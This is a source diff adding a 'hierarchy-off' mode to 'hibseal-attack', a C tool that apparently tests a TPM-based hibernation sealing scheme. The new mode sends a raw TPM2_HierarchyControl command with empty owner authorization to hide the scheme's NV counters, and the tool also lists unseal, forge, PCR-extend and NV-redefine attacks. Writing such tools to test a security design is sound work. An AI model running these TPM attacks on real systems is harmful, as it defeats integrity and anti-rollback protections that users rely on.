@@ -9,6 +9,9 @@
  *                               in the image header on DEV in place of the real one
  *   hibseal-attack extend PCR   extend PCR (SHA-256 bank) with a digest of root's: the window
  *                               PCR, say, so that sealing gives up
+ *   hibseal-attack hierarchy-off  disable the owner hierarchy (TPM2_HierarchyControl, owner
+ *                               authorization, empty): its NV indices, hibseal's counters among
+ *                               them, become inaccessible until the TPM's next Startup(CLEAR)
  *   hibseal-attack redefine INDEX VALUE
  *                               undefine the NV index INDEX (owner authorization, empty) and
  *                               define root's own there: an ordinary 8-byte index root may write,
@@ -348,6 +351,22 @@ static int attack_redefine(int tpm, uint32_t index, uint64_t value)
 	return 0;
 }
 
+/* TPM2_HierarchyControl(OWNER, enable=OWNER, state=NO): owner objects and NV hidden. */
+static int attack_hierarchy_off(int tpm)
+{
+	struct buf c, r;
+	long rc;
+
+	start(&c, 0x8002, 0x121);
+	put(&c, 0x40000001, 4);
+	password_auth(&c);
+	put(&c, 0x40000001, 4);
+	put(&c, 0, 1);
+	rc = transact(tpm, &c, &r);
+	printf("attack: hierarchy-off rc=0x%03lx\n", rc);
+	return rc < 0 ? -1 : 0;
+}
+
 int main(int argc, char **argv)
 {
 	uint8_t hdr[PAGE];
@@ -362,6 +381,14 @@ int main(int argc, char **argv)
 		}
 		return attack_extend(tpm, (uint32_t)atoi(argv[2])) ? 1 : 0;
 	}
+	if (argc == 2 && !strcmp(argv[1], "hierarchy-off")) {
+		tpm = open("/dev/tpmrm0", O_RDWR);
+		if (tpm < 0) {
+			fprintf(stderr, "hibseal-attack: /dev/tpmrm0: %s\n", strerror(errno));
+			return 1;
+		}
+		return attack_hierarchy_off(tpm) ? 1 : 0;
+	}
 	if (argc == 4 && !strcmp(argv[1], "redefine")) {
 		tpm = open("/dev/tpmrm0", O_RDWR);
 		if (tpm < 0) {
@@ -372,7 +399,7 @@ int main(int argc, char **argv)
 				       strtoull(argv[3], NULL, 0)) ? 1 : 0;
 	}
 	if (argc != 3 || (strcmp(argv[1], "unseal") && strcmp(argv[1], "forge"))) {
-		fprintf(stderr, "usage: hibseal-attack unseal|forge DEVICE | extend PCR | redefine INDEX VALUE\n");
+		fprintf(stderr, "usage: hibseal-attack unseal|forge DEVICE | extend PCR | redefine INDEX VALUE | hierarchy-off\n");
 		return 2;
 	}
 	dev = open(argv[2], O_RDWR);
